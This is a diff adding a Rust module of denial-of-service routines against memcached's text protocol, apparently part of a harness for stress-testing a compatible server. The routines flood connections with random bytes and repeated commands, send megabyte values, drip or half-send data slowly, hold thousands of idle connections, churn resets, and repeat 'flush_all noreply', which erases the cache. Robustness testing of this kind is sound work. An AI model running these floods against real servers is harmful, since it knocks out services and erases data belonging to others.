@@ -1,0 +1,114 @@
+//! Attacks on memcached's protocol. They are as valid against memcached.
+
+use crate::attack::Target;
+use crate::crowd::{Reads, begin, connect, crowd, drip as drip_bytes, hold, pump, reset};
+use std::io::{Read, Write};
+
+/// The largest value, or nearly.
+const LARGE: usize = 1_000_000;
+
+fn large_set(suffix: &str) -> Vec<u8> {
+    [format!("set big 0 0 {LARGE}{suffix}\r\n").into_bytes(), vec![b'x'; LARGE], b"\r\n".to_vec()].concat()
+}
+
+fn store_large(target: &Target) {
+    if let Some(mut stream) = connect(target) {
+        let _ = stream.write_all(&large_set(""));
+        let _ = stream.read(&mut [0; 16]);
+    }
+}
+
+pub(crate) fn random(target: &Target) -> String {
+    let mut chance = target.chance();
+    let mut rounds = 0;
+    while target.goes_on() {
+        if let Some(mut stream) = connect(target) {
+            let _ = stream.write_all(&chance.bytes(65_536));
+            rounds += 1;
+        }
+    }
+    format!("{rounds} connections")
+}
+
+pub(crate) fn noops(target: &Target) -> String {
+    pump(target, 8, b"", &b"mn\r\n".repeat(5_000), Reads::All)
+}
+
+pub(crate) fn version(target: &Target) -> String {
+    pump(target, 1, b"", &b"version\r\n".repeat(5_000), Reads::All)
+}
+
+pub(crate) fn stats(target: &Target) -> String {
+    pump(target, 1, b"", &b"stats\r\n".repeat(500), Reads::All)
+}
+
+pub(crate) fn junk(target: &Target) -> String {
+    pump(target, 1, b"", &b"xyzzy\r\n".repeat(5_000), Reads::All)
+}
+
+pub(crate) fn noreply(target: &Target) -> String {
+    pump(target, 8, b"", &b"set nr 0 0 1 noreply\r\nx\r\n".repeat(2_000), Reads::All)
+}
+
+pub(crate) fn get_one(target: &Target) -> String {
+    pump(target, 1, b"", &b"get h1\r\n".repeat(2_000), Reads::All)
+}
+
+pub(crate) fn gets(target: &Target) -> String {
+    pump(target, 8, b"", &b"get h1\r\n".repeat(2_000), Reads::All)
+}
+
+pub(crate) fn keys(target: &Target) -> String {
+    let line = format!("get{}\r\n", " h1 h2 h3".repeat(200));
+    pump(target, 4, b"", &line.into_bytes().repeat(20), Reads::All)
+}
+
+pub(crate) fn big_sets(target: &Target) -> String {
+    pump(target, 4, b"", &large_set(" noreply"), Reads::All)
+}
+
+pub(crate) fn unread(target: &Target) -> String {
+    store_large(target);
+    pump(target, 50, b"", &b"get big\r\n".repeat(200), Reads::Nothing)
+}
+
+pub(crate) fn slow(target: &Target) -> String {
+    store_large(target);
+    pump(target, 20, b"", b"get big\r\n", Reads::Slowly(1_000))
+}
+
+pub(crate) fn half(target: &Target) -> String {
+    begin(target, 300, &[format!("set half 0 0 {LARGE}\r\n").into_bytes(), vec![b'x'; 900_000]].concat())
+}
+
+pub(crate) fn idle(target: &Target) -> String {
+    hold(target, &crowd(target, 2_000, b""))
+}
+
+pub(crate) fn drip(target: &Target) -> String {
+    drip_bytes(target, 200, format!("set drip 0 0 {LARGE}\r\nxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx").as_bytes())
+}
+
+pub(crate) fn storm(target: &Target) -> String {
+    come_and_go(target, b"get a\r\n")
+}
+
+pub(crate) fn churn(target: &Target) -> String {
+    come_and_go(target, &b"get h1\r\n".repeat(100))
+}
+
+fn come_and_go(target: &Target, said: &[u8]) -> String {
+    let mut rounds = 0;
+    while target.goes_on() {
+        if let Some(mut stream) = connect(target) {
+            let _ = stream.write_all(said);
+            reset(stream);
+            rounds += 1;
+        }
+    }
+    format!("{rounds} connections")
+}
+
+pub(crate) fn flush(target: &Target) -> String {
+    pump(target, 4, b"", &b"flush_all noreply\r\n".repeat(1_000), Reads::All)
+}
